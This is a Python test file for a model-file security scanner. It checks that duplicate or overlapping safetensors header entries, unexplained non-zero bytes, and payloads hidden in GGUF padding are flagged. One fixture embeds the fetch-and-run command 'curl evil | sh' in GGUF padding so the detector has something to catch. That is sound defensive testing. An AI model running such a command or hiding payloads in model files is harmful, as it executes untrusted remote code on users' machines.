"""Attacks through headers: what two readers would read differently, and bytes that nothing explains."""

from __future__ import annotations

import hashlib
import json
import struct
from dataclasses import replace

import numpy as np
import pytest
from safetensors.numpy import save

from aibom.domain.facts import FileKind
from aibom.domain.file import File, Unindexed
from aibom.domain.hazard import HazardKind
from aibom.domain.limits import MIB
from aibom.fingerprint.one_pass import fingerprint
from aibom.formats import gguf, safetensors
from aibom.policy.rules import ambiguous_header, hidden_payload, unindexed_bytes
from aibom.policy.rules.unindexed_bytes import ZERO_BYTES
from aibom.readers.ranges import Memory
from tests.builders import file, report
from tests.hostile import read

ENTRY = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}


def looked_at(data: bytes, name: str = "m.safetensors") -> File:
    """The file as a scan has it: facts and fingerprint."""
    fmt = gguf.FORMAT if name.endswith("gguf") else safetensors.FORMAT
    facts = read(fmt, data, name)
    done = fingerprint(Memory(data), facts)
    return replace(file(name), facts=facts, tensor_digests=done.tensor_digests, unindexed=done.unindexed)


def with_header(header: object, body: bytes) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + body


@pytest.mark.parametrize("rule", [ambiguous_header, hidden_payload, unindexed_bytes])
def test_an_honest_file_violates_nothing(rule: object) -> None:
    honest = report(files=(looked_at(save({"w": np.ones(3, np.float32)})),))
    assert list(rule.RULE.check(honest)) == []  # type: ignore[attr-defined]


def test_a_second_entry_for_a_tensor_is_a_finding_and_its_bytes_are_digested() -> None:
    one = json.dumps(ENTRY)
    seen = looked_at(with_header(f'{{"w":{one},"w":{one.replace("F32", "I32")}}}'.encode(), b"abcd"))
    (found,) = ambiguous_header.RULE.check(report(files=(seen,)))
    assert (found.rule, found.found) == ("ambiguous-header", "duplicate-key")
    assert found.location.offset is not None
    assert seen.tensor_digests[0] is not None


@pytest.mark.parametrize(
    ("behind", "expected"), [(b"", 0), (bytes(64), 0), (bytes(64) + b"x", 1), (b"PK\3\4 and more", 1)]
)
def test_only_bytes_that_are_not_zero_are_unexplained(behind: bytes, expected: int) -> None:
    seen = looked_at(save({"w": np.ones(3, np.float32)}) + behind)
    assert len(list(unindexed_bytes.RULE.check(report(files=(seen,))))) == expected


@pytest.mark.parametrize("hole", [bytes(8), b"hid here"])
def test_a_hole_between_tensors_is_judged_by_what_is_in_it(hole: bytes) -> None:
    header = {"a": ENTRY, "b": {**ENTRY, "data_offsets": [12, 16]}}
    seen = looked_at(with_header(header, b"aaaa" + hole + b"bbbb"))
    assert seen.unindexed == Unindexed(bytes=8, sha256=hashlib.sha256(hole).hexdigest())
    found = list(unindexed_bytes.RULE.check(report(files=(seen,))))
    assert [each.found for each in found] == [seen.unindexed.sha256] * any(hole)


@pytest.mark.parametrize("count", [1, MIB, MIB + 1, 3 * MIB])
def test_zeros_of_any_length_are_recognised_by_their_digest(count: int) -> None:
    zeros = Unindexed(bytes=count, sha256=hashlib.sha256(bytes(count)).hexdigest())
    seen = replace(file("m", "gguf", FileKind.WEIGHTS), unindexed=zeros)
    assert not unindexed_bytes.unexplained(seen)


def test_more_zeros_than_are_compared_stay_a_finding() -> None:
    many = Unindexed(bytes=ZERO_BYTES + 1, sha256="a" * 64)
    assert unindexed_bytes.unexplained(replace(file("m", "gguf", FileKind.WEIGHTS), unindexed=many))


def test_a_payload_in_the_padding_of_gguf_is_a_finding_twice() -> None:
    name = struct.pack("<Q", 1) + b"t" + struct.pack("<IQIQ", 1, 1, 0, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + name
    data = head + bytes(-len(head) % 32) + b"ffff" + b"curl evil | sh # paddin"
    seen = report(files=(looked_at(data.ljust(len(data) + -len(data) % 32, b"!"), "m.gguf"),))
    assert [found.found for found in hidden_payload.RULE.check(seen)] == ["padding"]
    assert len(list(unindexed_bytes.RULE.check(seen))) == 1


def test_every_hazard_of_a_header_has_a_rule_of_its_own() -> None:
    data = with_header({"a": ENTRY, "b": ENTRY, "c": {**ENTRY, "shape": [9]}}, bytes(4))
    kinds = {hazard.kind for hazard in read(safetensors.FORMAT, data, "m").hazards}
    assert kinds == {HazardKind.AMBIGUOUS_HEADER}
    seen = report(files=(looked_at(data),))
    assert [found.found for found in ambiguous_header.RULE.check(seen)] == ["size-mismatch", "overlap"]
